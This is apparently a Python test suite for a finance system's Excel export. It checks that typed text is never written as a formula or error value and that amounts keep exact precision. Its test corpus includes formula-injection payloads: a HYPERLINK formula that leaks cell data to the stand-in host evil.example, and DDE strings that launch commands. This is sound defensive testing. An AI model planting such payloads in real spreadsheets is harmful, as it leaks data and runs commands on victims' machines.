"""No user text ever becomes a formula or an error value, characters XML cannot hold are
removed rather than crashing the export, and amounts reach the file without float rounding.

The corpus goes through every text column of every register (written by the exporter itself),
and through the text fields people can type, end to end from the database to the download."""

import io
from decimal import Decimal

from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from contacts.currencies import MINOR_UNITS
from finance import exports
from purchase_orders.models import PurchaseOrder, PurchaseOrderChange
from quotes.models import Quote, QuoteLine
from quotes.money import MAX_AMOUNT

from .builders import export_through_the_pages, registers, workbook_of

CORPUS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
    "=1+1",
    "+1",
    "-1",
    "+41 44 668 18 00",
    "@SUM(A1:A9)",
    "=cmd|' /C calc'!A0",
    "#N/A",
    "#DIV/0!",
    "#REF!",
    "#VALUE!",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "==",
    "=",
    'DDE("cmd";"/C calc";"!A0")',
    "ab\x00cd\x07ef\x1b[31m",
    "\x0b\x0c",
    "Ünïcödé ✓ 日本語 \U0001f600",
    "<script>alert(1)</script>",
    "x" * 40_000,
]
# What each corpus entry must read back as: the same text, less the characters XML forbids,
# cut at Excel's cell length (nothing left: an empty cell).
EXPECTED = [exports.clean_text(text) or None for text in CORPUS]


def reopen(data: bytes):
    return load_workbook(io.BytesIO(data))


def formula_or_error_cells(book) -> list[str]:
    return [
        f"{sheet.title}!{cell.coordinate}"
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type in ("f", "e")
    ]


def test_the_corpus_through_every_text_column_of_every_register_stays_text():
    # given one row per corpus entry for every register, the entry in each of its text columns
    sheets = []
    for register in exports.REGISTERS.values():
        rows = []
        for text in CORPUS:
            row: dict = {"currency": "USD"}
            for column in register.columns:
                row[column.key] = text if column.kind == exports.TEXT else None
            row["currency"] = "USD"
            rows.append(row)
        sheets.append((register, iter(rows)))
    out = io.BytesIO()

    # when the workbook is written (no crash) and reopened
    exports.write_workbook(out, sheets, subtitle=lambda r: "=1+1 #N/A")
    book = reopen(out.getvalue())

    # then no cell is a formula or an error value, and every text column reads back as text
    assert formula_or_error_cells(book) == []
    for register, sheet in zip(exports.REGISTERS.values(), book.worksheets, strict=True):
        for index, column in enumerate(register.columns, start=1):
            if column.kind != exports.TEXT or column.key == "currency":
                continue
            found = [sheet.cell(row=r, column=index).value for r in range(3, 3 + len(CORPUS))]
            assert found == EXPECTED, (register.key, column.header)
    # and the title row's own filter text stays text too
    assert book["Quotes"]["A1"].data_type == "s"


def test_text_that_starts_like_a_formula_is_marked_to_stay_text_when_edited():
    out = io.BytesIO()
    register = exports.REGISTERS["quotes"]
    row = dict.fromkeys((c.key for c in register.columns), None)
    row.update(currency="USD", title="=1+1", account_name="plain")
    exports.write_workbook(out, [(register, iter([row]))], subtitle=lambda r: "")
    sheet = reopen(out.getvalue())["Quotes"]
    title, name = sheet["E3"], sheet["D3"]
    assert (title.value, title.data_type, title.quotePrefix) == ("=1+1", "s", True)
    assert (name.value, name.quotePrefix) == ("plain", False)


def test_illegal_characters_and_lone_surrogates_are_removed_not_fatal():
    assert exports.clean_text("a\x00b\x01c\x1fd\ud800e") == "abcde"
    assert exports.clean_text("tab\tline\nreturn\r") == "tab\tline\nreturn\r"
    assert len(exports.clean_text("y" * 50_000)) == exports.MAX_CELL_TEXT


def test_the_corpus_typed_by_people_end_to_end(world, client):
    # given quotes, lines, a PO and its change whose every typed text is a corpus entry
    built = registers(world)
    for i, text in enumerate(CORPUS[:-1]):  # the 40,000 characters do not fit a title
        safe = text.replace("\x00", "")  # a database text column cannot hold NUL
        Quote.objects.filter(pk=built["sent"].pk).update(title=safe[:200])
        QuoteLine.objects.update(description=safe[:500])
        PurchaseOrder.objects.update(number=f"{safe[:50]}{i}")
        PurchaseOrderChange.objects.update(reason=safe, comment=safe)
        world.rep_a.first_name = safe[:150]
        world.rep_a.save(update_fields=["first_name"])
        world.a.name = safe[:200]
        world.a.save(update_fields=["name"])

        # when finance downloads everything
        response = export_through_the_pages(client, world.finance)

        # then it is there, with no formula and no error cell
        assert response.status_code == 200, text
        book = workbook_of(response)
        assert formula_or_error_cells(book) == [], text
        titles = [c.value for c in book["Quotes"]["E"][2:]]
        assert (exports.clean_text(safe[:200]) or None) in titles, text


@settings(max_examples=300, deadline=None)
@given(
    st.sampled_from(sorted(MINOR_UNITS)),
    st.integers(min_value=0, max_value=int(MAX_AMOUNT)),
    st.integers(min_value=0, max_value=999),
    st.booleans(),
)
def test_every_amount_a_money_field_holds_reads_back_exactly(currency, units, fraction, minus):
    # given an amount of the currency's minor unit, up to the largest a money field holds
    places = MINOR_UNITS[currency]
    value = Decimal(units) + (Decimal(fraction % 10**places) / 10**places if places else 0)
    value = -value if minus else value
    out = io.BytesIO()
    register = exports.REGISTERS["invoice_lines"]
    row = dict.fromkeys((c.key for c in register.columns), None)
    row.update(currency=currency, amount=value, invoice_number="I-1")
    # when it is written and reopened
    exports.write_workbook(out, [(register, iter([row]))], subtitle=lambda r: "")
    cell = reopen(out.getvalue())["Invoice lines"]["I3"]
    # then the number read back is the amount itself, not a float's neighbour
    assert cell.data_type == "n"
    assert Decimal(repr(float(cell.value))) == value
